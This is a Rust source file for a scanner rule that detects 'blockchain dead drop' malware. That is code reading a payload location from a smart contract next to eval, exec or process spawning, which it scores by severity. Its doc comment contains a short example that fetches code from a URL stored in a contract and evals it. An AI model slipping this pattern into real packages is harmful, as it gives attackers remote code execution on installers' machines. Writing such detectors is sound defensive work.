//! # SW-GEN-010: blockchain dead drops
//!
//! **What it does.** Finds code that reads from a blockchain — JSON-RPC
//! `eth_call`/`eth_getStorageAt`/`eth_getTransactionByHash`, an ethers or
//! web3 `Contract`, Solana `getSignaturesForAddress`/`getAccountInfo`,
//! TRON and BSC endpoints — in a file that also runs code or spawns
//! processes, or at install, startup or import next to a hard-coded
//! contract address.
//!
//! **Why is this bad.** Malware families (EtherHiding, several npm
//! campaigns) keep the address of their next stage in a smart contract or
//! a transaction memo: the package holds only a contract address, the
//! operator changes the payload by writing to the chain, and nothing can
//! take the "server" down.
//!
//! **Example.**
//!
//! ```js
//! const c = new ethers.Contract("0x…40 hex…", abi, provider);
//! eval(await (await fetch(await c.getUrl())).text());
//! ```
//!
//! **False positives.** Wallet and dApp libraries read contracts all the
//! time, when called and without running what they read: those give
//! nothing. Only a chain read together with `eval`/`exec`/a spawn, or at
//! an automatic stage with a hard-coded contract, counts.

use std::sync::LazyLock;

use super::support;
use super::{Context, Emit, Rule, Indicators};
use crate::model::{Severity, Stage};

pub(crate) static RULE: Rule = Rule {
    id: "SW-GEN-010",
    title: "blockchain dead drops",
    source: include_str!("gen010_blockchain_c2.rs"),
    check,
};

const MARKERS: &[&str] = &[
    "eth_call",
    "eth_getStorageAt",
    "eth_getTransactionByHash",
    "eth_getLogs",
    "getSignaturesForAddress",
    "getAccountInfo",
    "trongrid",
    "tronweb",
    "bsc-dataseed",
    "bsc-rpc",
    "api.mainnet-beta.solana",
    "JsonRpcProvider",
    "web3.eth.Contract",
    "ethers.Contract",
    "new Contract(",
    "getTransactionInfoById",
];

pub(crate) static MARKER: Indicators = Indicators::new(|| MARKERS.to_vec());

static ADDRESS: LazyLock<regex::bytes::Regex> = LazyLock::new(|| {
    regex::bytes::Regex::new(r#"['"`](?:0x[0-9a-fA-F]{40}|T[1-9A-HJ-NP-Za-km-z]{33})['"`]"#).expect("a valid regex")
});

fn check(cx: &Context<'_>, out: &mut Emit<'_>) {
    // Markers from literals and raw text…
    let mut marks: std::collections::BTreeMap<&str, (Stage, u32, &str)> = Default::default();
    for hit in cx.indicator_hits(&MARKER) {
        let stage = support::hit_stage(&hit);
        let entry = marks.entry(&hit.file.path).or_insert((stage, hit.line, MARKERS[hit.pattern]));
        if stage < entry.0 {
            *entry = (stage, hit.line, MARKERS[hit.pattern]);
        }
    }
    // …and from calls (`new ethers.Contract(...)`, `new JsonRpcProvider`).
    for (file, call) in cx.calls() {
        let name = call.callee.rsplit('.').next().unwrap_or(&call.callee);
        if matches!(name, "Contract" | "JsonRpcProvider" | "Connection" | "TronWeb")
            && (call.callee.contains("ethers") || call.callee.contains("web3") || call.callee.contains("solana") || call.callee.contains("tron") || name != "Connection")
        {
            let entry = marks.entry(&file.path).or_insert((call.stage, call.line, "a contract read"));
            if call.stage < entry.0 {
                *entry = (call.stage, call.line, "a contract read");
            }
        }
    }
    for (path, (stage, line, marker)) in marks {
        let Some(file) = cx.files.iter().find(|f| f.path == path) else { continue };
        let text = file.text.as_deref().unwrap_or("");
        let address = ADDRESS.is_match(text.as_bytes());
        let runs = support::spawns(file);
        let raw_runs = file.facts.is_none()
            && ["eval(", "Function(", "child_process", "exec("].iter().any(|k| text.contains(k));
        let (severity, stage) = match (runs, raw_runs) {
            (Some(run_stage), _) => {
                if stage.is_automatic() && run_stage.is_automatic() {
                    (Severity::Critical, stage.max(run_stage))
                } else {
                    (Severity::High, Stage::Runtime)
                }
            }
            (None, true) => (Severity::High, stage),
            (None, false) if stage.is_automatic() && address => (Severity::Medium, stage),
            (None, false) if stage.is_automatic() => (Severity::Low, stage),
            (None, false) => continue,
        };
        let what = match (runs.is_some() || raw_runs, address) {
            (true, _) => "reads from a blockchain (`{m}`) in code that also runs code or processes",
            (false, true) => "reads from a blockchain (`{m}`) with a hard-coded contract or wallet address",
            (false, false) => "reads from a blockchain (`{m}`)",
        };
        out.finding(severity, stage, path, Some(line), what.replace("{m}", marker));
    }
}
